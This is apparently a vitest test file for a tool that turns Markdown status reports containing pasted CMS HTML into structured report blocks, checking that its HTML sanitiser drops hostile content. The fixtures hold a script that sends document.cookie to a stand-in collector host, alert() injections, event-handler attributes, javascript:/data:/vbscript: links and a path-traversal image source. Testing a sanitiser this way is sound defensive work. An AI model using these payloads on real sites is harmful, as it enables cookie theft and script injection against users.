/**
 * Raw HTML in a report, as it arrives pasted from a CMS, an email or a wiki. By default its text is
 * kept in the shape it had (paragraphs, lists, tables) and nothing else, with one warning; with
 * --allow-html a sanitising allow-list lets formatting, links and images through as the report model
 * carries them. Never the content of a script, a style, an embedded document or a form control.
 */
import { describe, expect, it } from 'vitest';
import { parseMarkdown } from '../../src/read/parse.js';
import { structure } from '../../src/structure/structure.js';
import { runsText } from '../../src/structure/inline.js';
import type { Run } from '../../src/types/deck.js';
import type { ReportBlock } from '../../src/types/report.js';
import { FIXTURES } from '../helpers/fixtures.js';

const run = (md: string, html = false, baseDir = '.') => structure(parseMarkdown(md, 'status.md'), { file: 'status.md', baseDir, allow: { html } });
/** The blocks of a report with no headings (all preamble), image probes left out. */
const blocks = (md: string, html = false) => run(md, html).value.preamble.map((b) => (b.kind === 'image' ? { ...b, probe: undefined } : b));
const texts = (bs: ReportBlock[]) =>
  bs.map((b) => {
    switch (b.kind) {
      case 'paragraph':
      case 'quote':
        return runsText(b.runs);
      case 'list':
        return b.items.map((i) => runsText(i.runs)).join(' / ');
      case 'table':
        return [b.head, ...b.rows].map((r) => r.map(runsText).join(' | ')).join(' / ');
      case 'code':
        return b.text;
      case 'image':
        return `[image ${b.src}]`;
      default:
        return b.kind;
    }
  });
const runsOf = (b: ReportBlock | undefined): Run[] => {
  if (b?.kind !== 'paragraph') throw new Error(`expected a paragraph, got ${b?.kind}`);
  return b.runs;
};
const warnings = (md: string, html = false) => run(md, html).diagnostics.filter((d) => d.code.startsWith('html'));

/** A weekly status update pasted from a CMS: wrappers, inline styles, breaks, a table, a comment and a script someone slipped in. */
const CMS = [
  '<div class="update" data-cms-id="8812">', // 1
  '<p><span style="color:#c00">Fuel costs</span> <b onclick="track()">fell</b> 6% in March.<br>Driver overtime is flat.</p>',
  '<!-- editor: check the overtime figure with payroll -->',
  '<p>Full figures: <a href="https://intranet.example.com/ops/march">March dashboard</a>.</p>',
  '</div>', // 5
  '',
  '<table>', // 7
  '  <thead><tr><th>Depot</th><th align="right">Late deliveries</th></tr></thead>',
  '  <tbody>',
  '    <tr><td>Leeds</td><td align="right">14</td></tr>',
  '    <tr><td>Bristol</td><td align="right">9</td></tr>',
  '  </tbody>',
  '</table>',
  '',
  '<script>fetch("https://collector.example.net/?c=" + document.cookie)</script>', // 15
  '',
  'Next review on Friday.', // 17
].join('\n');

describe('raw HTML by default (not passed through)', () => {
  it('keeps the text of a pasted CMS update in its paragraphs and table, without the script or the comment', () => {
    expect(blocks(CMS)).toEqual([
      { kind: 'paragraph', runs: [{ text: 'Fuel costs fell 6% in March.\nDriver overtime is flat.' }], line: 2 },
      { kind: 'paragraph', runs: [{ text: 'Full figures: March dashboard.' }], line: 4 },
      {
        kind: 'table',
        head: [[{ text: 'Depot' }], [{ text: 'Late deliveries' }]],
        rows: [
          [[{ text: 'Leeds' }], [{ text: '14' }]],
          [[{ text: 'Bristol' }], [{ text: '9' }]],
        ],
        align: [0, 1],
        line: 7,
      },
      { kind: 'paragraph', runs: [{ text: 'Next review on Friday.' }], line: 17 },
    ]);
  });

  it('makes no link and no image of it', () => {
    const r = run(`${CMS}\n\n<img src="${'images/returns-2025.png'}" alt="Returns by month">\n`, false, FIXTURES).value;
    expect(r.links).toEqual([]);
    expect(r.preamble.map((b) => b.kind)).not.toContain('image');
    expect(texts(r.preamble)).toContain('Returns by month');
  });

  it('says so in one warning for the whole report, naming the lines', () => {
    expect(warnings(CMS)).toEqual([
      {
        level: 'warning',
        code: 'html-dropped',
        message: 'raw HTML is not passed through (3 places: lines 1, 7, 15)',
        file: 'status.md',
        line: 1,
      },
    ]);
  });

  it('keeps a wrapped note as one paragraph of its text', () => {
    expect(blocks('<div class="note">Fuel costs <b>fell</b> 6%.</div>\n')).toEqual([{ kind: 'paragraph', runs: [{ text: 'Fuel costs fell 6%.' }], line: 1 }]);
  });

  it('keeps a collapsed section’s summary and body as paragraphs', () => {
    expect(texts(blocks('<details><summary>Method</summary>We sampled 40 depots over six weeks.</details>\n'))).toEqual([
      'Method',
      'We sampled 40 depots over six weeks.',
    ]);
  });

  it('keeps the words of inline tags as plain text, whatever their attributes', () => {
    const [p] = blocks('Costs were <b onclick="x()">flat</b>, see <a href="https://example.com/q1">the Q1 note</a> and <kbd>F5</kbd>.\n');
    expect(runsOf(p)).toEqual([{ text: 'Costs were flat, see the Q1 note and F5.' }]);
  });

  it('drops what is not text: scripts, styles, frames, objects, templates, form controls, comments', () => {
    const md = [
      'Depots reported on time.<script>alert(document.domain)</script> All of them.',
      '',
      '<style>.kpi { color: red }</style>',
      '',
      '<iframe src="https://video.example.com/embed/42">Your browser cannot show frames.</iframe>',
      '',
      '<object data="chart.swf"><embed src="chart.swf">Flash chart</object>',
      '',
      '<template><p>Row template</p></template><noscript>Enable JavaScript</noscript>',
      '',
      '<form action="https://collector.example.net"><label>Depot code</label><input name="code" value="LDS"><select><option>Leeds</option></select><textarea>notes</textarea><button>Send</button></form>',
      '',
      '<!-- draft: remove before sending -->',
    ].join('\n');
    expect(texts(blocks(md))).toEqual(['Depots reported on time. All of them.', 'Depot code']);
  });

  it('keeps lists, quotes and preformatted text in their shape', () => {
    const md = [
      '<ol start="3"><li>Renew the fleet lease</li><li>Hire two planners<ul><li>one in Leeds</li></ul></li></ol>',
      '',
      '<blockquote><p>Late deliveries cost us two contracts.</p></blockquote>',
      '',
      '<pre><code class="language-sql">SELECT depot, count(*)\n  FROM late\n GROUP BY depot;</code></pre>',
    ].join('\n');
    expect(blocks(md)).toEqual([
      {
        kind: 'list',
        items: [
          { level: 0, ordered: true, n: 3, runs: [{ text: 'Renew the fleet lease' }] },
          { level: 0, ordered: true, n: 4, runs: [{ text: 'Hire two planners' }] },
          { level: 1, ordered: false, runs: [{ text: 'one in Leeds' }] },
        ],
        line: 1,
      },
      { kind: 'quote', runs: [{ text: 'Late deliveries cost us two contracts.' }], line: 3 },
      { kind: 'code', lang: 'sql', text: 'SELECT depot, count(*)\n  FROM late\n GROUP BY depot;', line: 5 },
    ]);
  });

  it('reads character references as the characters they stand for', () => {
    expect(texts(blocks('<p>Fuel &amp; oil: &euro;4.2M &mdash; down 6&#37;</p>\n'))).toEqual(['Fuel & oil: €4.2M — down 6%']);
  });

  it('keeps the text of a block of HTML in a list item with the item, and in a quote with the quote', () => {
    const md = ['- Leeds depot:', '', '  <div>reopened on <b>3 March</b></div>', '', '> Service is back.', '>', '> <p>— Depot manager</p>'].join('\n');
    expect(texts(blocks(md))).toEqual(['Leeds depot: reopened on 3 March', 'Service is back.']);
    const quote = blocks(md)[1];
    expect(quote).toMatchObject({ kind: 'quote', cite: 'Depot manager' });
  });

  it('keeps the alt text of an image, which was written for readers', () => {
    expect(texts(blocks('<p>Map: <img src="map.png" alt="Depots by region"> (see appendix)</p>\n'))).toEqual(['Map: Depots by region (see appendix)']);
  });

  it('warns of nothing when the report has no HTML, even HTML written as code', () => {
    expect(warnings('Costs fell 6% and *margins* rose; bold is written `<b>`.\n')).toEqual([]);
  });
});

describe('raw HTML with --allow-html (sanitised)', () => {
  it('keeps the formatting and the link of a pasted CMS update, not the script or the handler', () => {
    const r = run(CMS, true).value;
    expect(r.links).toEqual(['https://intranet.example.com/ops/march']);
    expect(r.preamble.map((b) => (b.kind === 'paragraph' ? b.runs : b.kind))).toEqual([
      [{ text: 'Fuel costs ' }, { text: 'fell', bold: true }, { text: ' 6% in March.\nDriver overtime is flat.' }],
      [{ text: 'Full figures: ' }, { text: 'March dashboard', link: 0 }, { text: '.' }],
      'table',
      [{ text: 'Next review on Friday.' }],
    ]);
  });

  it('names what the allow-list removed in one warning, not what it kept', () => {
    expect(warnings(CMS, true)).toEqual([
      {
        level: 'warning',
        code: 'html-removed',
        message: 'raw HTML: onclick, <script> removed by the allow-list (2 places: lines 2, 15)',
        file: 'status.md',
        line: 2,
      },
    ]);
    expect(warnings('<p>Costs <b>fell</b>, see <a href="https://example.com">the note</a>.</p>\n', true)).toEqual([]);
  });

  describe('maps elements onto the report’s marks', () => {
    it.each([
      ['<b>', '<b>x</b>', { bold: true }],
      ['<strong>', '<strong>x</strong>', { bold: true }],
      ['<i>', '<i>x</i>', { italic: true }],
      ['<em>', '<em>x</em>', { italic: true }],
      ['<s>', '<s>x</s>', { strike: true }],
      ['<del>', '<del>x</del>', { strike: true }],
      ['<strike>', '<strike>x</strike>', { strike: true }],
      ['<code>', '<code>x</code>', { code: true }],
      ['<kbd>', '<kbd>x</kbd>', { code: true }],
      ['<samp>', '<samp>x</samp>', { code: true }],
      ['<a href>', '<a href="https://example.com/x">x</a>', { link: 0 }],
      ['<sub>', '<sub>x</sub>', {}],
      ['<sup>', '<sup>x</sup>', {}],
      ['<mark>', '<mark>x</mark>', {}],
      ['<u>', '<u>x</u>', {}],
      ['<span>', '<span title="t">x</span>', {}],
    ])('%s, in a block of HTML and inline in Markdown', (_, html, marks) => {
      // Text without marks of its own is one run with the text around it.
      const expected = Object.keys(marks).length ? [{ text: 'Level ' }, { text: 'x', ...marks }, { text: ' held.' }] : [{ text: 'Level x held.' }];
      expect(runsOf(blocks(`<p>Level ${html} held.</p>\n`, true)[0])).toEqual(expected);
      expect(runsOf(blocks(`Level ${html} held.\n`, true)[0])).toEqual(expected);
    });

    it('nests marks, and Markdown marks inside HTML ones', () => {
      expect(runsOf(blocks('Output <b>rose <i>sharply</i></b> and <em>**held**</em>.\n', true)[0])).toEqual([
        { text: 'Output ' },
        { text: 'rose ', bold: true },
        { text: 'sharply', bold: true, italic: true },
        { text: ' and ' },
        { text: 'held', bold: true, italic: true },
        { text: '.' },
      ]);
    });

    it('breaks a line at <br>', () => {
      expect(runsText(runsOf(blocks('Leeds<br/>Bristol\n', true)[0]))).toBe('Leeds\nBristol');
    });
  });

  it('turns javascript:, data: and vbscript: links into plain text, and says so', () => {
    const md = [
      'Open <a href="javascript:alert(1)">the tracker</a>, <a href="data:text/html;base64,PHNjcmlwdD4=">the sheet</a>',
      'and <a href="VBScript:msgbox(1)">the macro</a>; <a href="mailto:ops@example.com">mail ops</a>.',
    ].join('\n');
    const r = run(md, true);
    expect(r.value.links).toEqual(['mailto:ops@example.com']);
    expect(runsOf(r.value.preamble[0])).toEqual([
      { text: 'Open the tracker, the sheet and the macro; ' },
      { text: 'mail ops', link: 0 },
      { text: '.' },
    ]);
    expect(r.diagnostics.map((d) => d.message)).toEqual([
      'raw HTML: javascript: link, data: link, vbscript: link removed by the allow-list (3 places: lines 1, 2)',
    ]);
  });

  it('never keeps what is not text, inline or in a block', () => {
    const md = [
      'Depots reported on time.<script>alert(document.domain)</script> All of them.',
      '',
      '<div onmouseover="steal()"><style>p{}</style><iframe srcdoc="<script>x()</script>"></iframe>Leeds was first.</div>',
      '',
      '<img src="x" onerror="alert(1)" alt="">',
    ].join('\n');
    const r = run(md, true);
    expect(texts(r.value.preamble)).toEqual(['Depots reported on time. All of them.', 'Leeds was first.', '[image x]']);
    expect(r.diagnostics.find((d) => d.code === 'html-removed')?.message).toBe(
      'raw HTML: <script>, onmouseover, <style>, <iframe>, onerror removed by the allow-list (5 places: lines 1, 3, 5)',
    );
  });

  it('maps block elements onto paragraphs, lists, quotes, code and bold text for headings', () => {
    const md = [
      '<h3>Fleet</h3><p>Two vans were <em>retired</em>.</p>',
      '',
      '<ul><li>Leeds: <b>on plan</b></li><li><p>Bristol:</p><p>behind</p></li></ul>',
      '',
      '<blockquote>Late deliveries cost us <b>two</b> contracts.<br>We must fix routing.</blockquote>',
      '',
      '<pre>depot  late\nLeeds  14</pre>',
    ].join('\n');
    expect(blocks(md, true)).toEqual([
      { kind: 'paragraph', runs: [{ text: 'Fleet', bold: true }], line: 1 },
      { kind: 'paragraph', runs: [{ text: 'Two vans were ' }, { text: 'retired', italic: true }, { text: '.' }], line: 1 },
      {
        kind: 'list',
        items: [
          { level: 0, ordered: false, runs: [{ text: 'Leeds: ' }, { text: 'on plan', bold: true }] },
          { level: 0, ordered: false, runs: [{ text: 'Bristol: behind' }] },
        ],
        line: 3,
      },
      { kind: 'quote', runs: [{ text: 'Late deliveries cost us ' }, { text: 'two', bold: true }, { text: ' contracts.\nWe must fix routing.' }], line: 5 },
      { kind: 'code', text: 'depot  late\nLeeds  14', line: 7 },
    ]);
  });

  it('makes a table of an HTML table, cells spanning columns or rows leaving the cells they cover empty', () => {
    const md = [
      '<table><caption>Late deliveries</caption>',
      '<tr><th>Region</th><th>Depot</th><th>Q1</th></tr>',
      '<tr><td rowspan="2">North</td><td>Leeds</td><td><b>14</b></td></tr>',
      '<tr><td>York</td><td>3</td></tr>',
      '<tr><td colspan="2">Total</td><td>17</td></tr>',
      '</table>',
    ].join('\n');
    const [caption, table] = blocks(md, true);
    expect(texts([caption])).toEqual(['Late deliveries']);
    expect(table).toEqual({
      kind: 'table',
      head: [[{ text: 'Region' }], [{ text: 'Depot' }], [{ text: 'Q1' }]],
      rows: [
        [[{ text: 'North' }], [{ text: 'Leeds' }], [{ text: '14', bold: true }]],
        [[], [{ text: 'York' }], [{ text: '3' }]],
        [[{ text: 'Total' }], [], [{ text: '17' }]],
      ],
      align: [0, 0, 0],
      line: 1,
    });
  });

  it('reads a one-row layout table as its cells’ content, not as a table', () => {
    expect(blocks('<table><tr><td><p>Quarter closed.</p></td><td>Audit next.</td></tr></table>\n', true)).toEqual([
      { kind: 'paragraph', runs: [{ text: 'Quarter closed.' }], line: 1 },
      { kind: 'paragraph', runs: [{ text: 'Audit next.' }], line: 1 },
    ]);
  });

  it('reads <img> as a Markdown image: an image block, from the report’s folder only', () => {
    const md = ['<p align="center"><img src="images/returns-2025.png" alt="Returns by month"></p>', '', 'Returns fell <img src="../../package.json" alt="arrow"> in May.'].join('\n');
    const r = run(md, true, FIXTURES);
    const [image, para, inlineImage] = r.value.preamble;
    expect(image).toMatchObject({ kind: 'image', src: 'images/returns-2025.png', alt: 'Returns by month', probe: { path: 'images/returns-2025.png', mime: 'image/png' } });
    expect(runsText(runsOf(para))).toBe('Returns fell in May.');
    expect(inlineImage).toMatchObject({ kind: 'image', src: '../../package.json', alt: 'arrow', line: 3 });
    expect(inlineImage).not.toHaveProperty('probe.path');
    expect(r.diagnostics.find((d) => d.line === 3)?.code).toMatch(/^image-/);
  });

  it('does not warn that HTML was dropped', () => {
    expect(run(CMS, true).diagnostics.map((d) => d.code)).not.toContain('html-dropped');
  });
});

describe('raw HTML nested deeper than any page', () => {
  it.each([false, true])('is read without overflowing, its text kept (--allow-html: %s)', (html) => {
    const md = `${'<div><ul><li>'.repeat(4000)}Deepest note.${'</li></ul></div>'.repeat(4000)}\n\nNext review on Friday.\n`;
    const r = run(md, html).value;
    expect(texts(r.preamble).join(' / ')).toContain('Deepest note.');
    expect(texts(r.preamble).at(-1)).toBe('Next review on Friday.');
  });
});
